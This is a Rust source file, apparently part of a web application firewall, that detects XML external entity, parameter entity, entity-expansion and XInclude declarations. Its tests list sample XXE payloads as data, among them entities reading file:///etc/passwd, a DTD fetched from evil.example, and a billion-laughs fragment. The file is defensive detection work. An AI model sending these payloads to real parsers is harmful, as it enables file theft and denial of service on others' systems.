//! XML external entities and entity expansion: markup declarations that make an XML parser
//! read files or URLs, or multiply text until memory runs out.
//!
//! Counted declarations: a `DOCTYPE` with an external identifier (`SYSTEM`/`PUBLIC`, an
//! external DTD fetched from anywhere), an `ENTITY` with an external identifier, any
//! parameter entity (`<!ENTITY % name ...>`, the way out-of-band exfiltration is built),
//! an internal entity whose value references two or more entities (the billion laughs),
//! and an XInclude element. A DOCTYPE with only a name or an internal subset of plain
//! entities (`<!ENTITY copy "&#169;">`) is ordinary XML.

use super::Detection;

/// The longest entity value read for references to other entities.
const MAX_VALUE: usize = 1024;

fn skip_space(s: &[u8], mut at: usize) -> usize {
    while s.get(at).is_some_and(|b| b.is_ascii_whitespace()) {
        at += 1;
    }
    at
}

fn name_len(s: &[u8]) -> usize {
    s.iter()
        .take(256)
        .take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b'>' | b'[' | b'"' | b'\''))
        .count()
}

/// Whether `s` (lowercase) starts with an external identifier.
fn external_id(s: &[u8]) -> bool {
    s.starts_with(b"system") || s.starts_with(b"public")
}

/// Finds a dangerous declaration in `input` (the `decoded` form).
pub fn detect(input: &[u8]) -> Option<Detection> {
    let lower = input.to_ascii_lowercase();
    let found = |at: usize, len: usize, why| Some(Detection { at, len, why });
    for at in memchr::memmem::find_iter(&lower, b"<!") {
        let kw = skip_space(&lower, at + 2);
        let rest = &lower[kw..];
        if rest.starts_with(b"doctype") {
            let name = skip_space(&lower, kw + 7);
            let after = skip_space(&lower, name + name_len(&lower[name..]));
            if external_id(&lower[after..]) {
                return found(at, after + 6 - at, "a DOCTYPE with an external DTD");
            }
        } else if rest.starts_with(b"entity") {
            let mut p = skip_space(&lower, kw + 6);
            if lower.get(p) == Some(&b'%') {
                return found(at, p + 1 - at, "a parameter entity declaration");
            }
            p = skip_space(&lower, p + name_len(&lower[p..]));
            if external_id(&lower[p..]) {
                return found(at, p + 6 - at, "an external entity declaration");
            }
            if let Some(&q @ (b'"' | b'\'')) = lower.get(p) {
                let end = lower[p + 1..lower.len().min(p + 1 + MAX_VALUE)]
                    .iter()
                    .position(|b| *b == q)
                    .map_or(lower.len(), |e| p + 1 + e);
                let value = &lower[p + 1..end];
                let refs = memchr::memchr_iter(b'&', value)
                    .filter(|&r| {
                        value
                            .get(r + 1)
                            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
                    })
                    .count();
                if refs >= 2 {
                    return found(
                        at,
                        end - at,
                        "an entity that expands other entities (entity expansion)",
                    );
                }
            }
        }
    }
    if let Some(at) = memchr::memmem::find(&lower, b"xi:include")
        .or_else(|| memchr::memmem::find(&lower, b"2001/xinclude"))
    {
        return found(at, 10, "an XInclude element");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::detect::expect;

    #[test]
    fn external_and_expanding_entities_are_found() {
        expect::finds(
            detect,
            &[
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE x [ <!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p; ]>",
            "<!doctype svg public \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg.dtd\">",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]>",
            "<!ENTITY xxe PUBLIC \"x\" \"http://evil.example\">",
            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>",
            "<! ENTITY  %  a  SYSTEM 'x'>",
            ],
        );
    }

    #[test]
    fn ordinary_xml_is_left_alone() {
        expect::passes(
            detect,
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE html><html></html>",
                "<!DOCTYPE note [<!ENTITY copy \"&#169;\">]><note>&copy;</note>",
                "<!-- a comment about entities -->",
                "the system entity in our ERD",
                "<!DOCTYPE>",
            ],
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        expect::bounded(
            detect,
            &["<!ENTITY x \"".repeat(10_000), "<!".repeat(50_000)],
        );
    }
}
